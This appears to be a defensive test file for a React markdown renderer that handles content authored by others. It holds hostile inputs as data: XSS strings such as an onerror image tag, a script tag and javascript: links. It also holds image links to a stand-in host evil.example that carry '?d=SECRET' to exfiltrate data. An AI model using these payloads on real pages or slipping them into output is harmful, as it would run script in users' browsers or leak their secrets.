import { screen } from '@testing-library/react';
import { renderScreen } from '../../testing';
import { RichText, preloadMarkdown } from '../rich-text';

beforeAll(() => preloadMarkdown());

const renderAnswer = (content: string) =>
  renderScreen(<RichText markdown={content} id="a" headings="bold" showsHosts />);

describe('markdown of others', () => {
  test('renders emphasis, lists, tables and quotes', () => {
    renderAnswer('> **Bold** text\n\n- one\n- two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |');
    expect(screen.getByText('Bold').tagName).toBe('STRONG');
    expect(screen.getAllByRole('listitem')).toHaveLength(2);
    expect(screen.getByRole('cell', { name: '2' })).toBeInTheDocument();
  });

  test('opens links in a new tab without an opener', () => {
    renderAnswer('[Users](/help/en/users#sort)');
    const link = screen.getByRole('link', { name: /^Users/ });
    expect(link).toHaveAttribute('href', '/help/en/users#sort');
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  test('shows the host of a link to another site', () => {
    renderAnswer('[My bank](https://evil.example/login) and [home](/home)');
    expect(screen.getByRole('link', { name: /My bank \(evil\.example\)/ })).toBeInTheDocument();
    expect(screen.getByRole('link', { name: /^home \(opens/ })).toBeInTheDocument();
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,1)',
    '[x](//evil.example)',
    '<javascript:alert(1)>',
    '[x](/api/v1/me)',
  ])('renders no link for %s', (content) => {
    renderAnswer(content);
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });

  test.each([
    '![a](https://evil.example/?d=SECRET)',
    '![a][1]\n\n[1]: https://evil.example/?d=SECRET',
    '| ![a](https://evil.example/?d=SECRET) |\n| --- |',
    'a[^1]\n\n[^1]: ![a](https://evil.example/?d=SECRET)',
  ])('shows an image as text and never fetches it: %s', (content) => {
    renderAnswer(content);
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(screen.getByText(/Image: a/)).toBeInTheDocument();
  });

  test('shows raw HTML as text', () => {
    renderAnswer('<img src=x onerror=alert(1)> <b id="remote_chat">b</b>\n\n<script>alert(1)</script>');
    expect(screen.queryByRole('img')).not.toBeInTheDocument();
    expect(document.body.innerHTML).not.toMatch(/<script|<b |onerror=alert\(1\)>/);
  });

  test('renders headings as bold paragraphs', () => {
    renderAnswer('# Title');
    expect(screen.queryByRole('heading')).not.toBeInTheDocument();
    expect(screen.getByText('Title')).toBeInTheDocument();
  });

  test('hides a link whose address contains a line break in its scheme', () => {
    renderAnswer('[x](java&#10;script:alert(1))');
    expect(screen.queryByRole('link')).not.toBeInTheDocument();
  });
});

test('renders headings below those of the page, at most at level 6', () => {
  renderScreen(<RichText markdown={'# One\n\n## Two\n\n###### Six'} />);
  expect(screen.getByRole('heading', { level: 3, name: 'One' })).toBeVisible();
  expect(screen.getByRole('heading', { level: 4, name: 'Two' })).toBeVisible();
  expect(screen.getByRole('heading', { level: 6, name: 'Six' })).toBeVisible();
});

test('shows no hosts unless asked to', () => {
  renderScreen(<RichText markdown="[Docs](https://example.com/a)" />);
  expect(screen.getByRole('link')).toHaveAccessibleName('Docs (opens in a new tab)');
});

test('shows images of the portal, and only those, when asked to', () => {
  renderScreen(
    <RichText
      showsImages
      markdown={'![own](/assets/a.png) ![api](/api/v1/me) ![foreign](https://evil.example/b.png)'}
    />,
  );
  expect(screen.getAllByRole('img').map((image) => image.getAttribute('src'))).toEqual(['/assets/a.png']);
  expect(screen.getByText(/Image: foreign/)).toBeVisible();
});
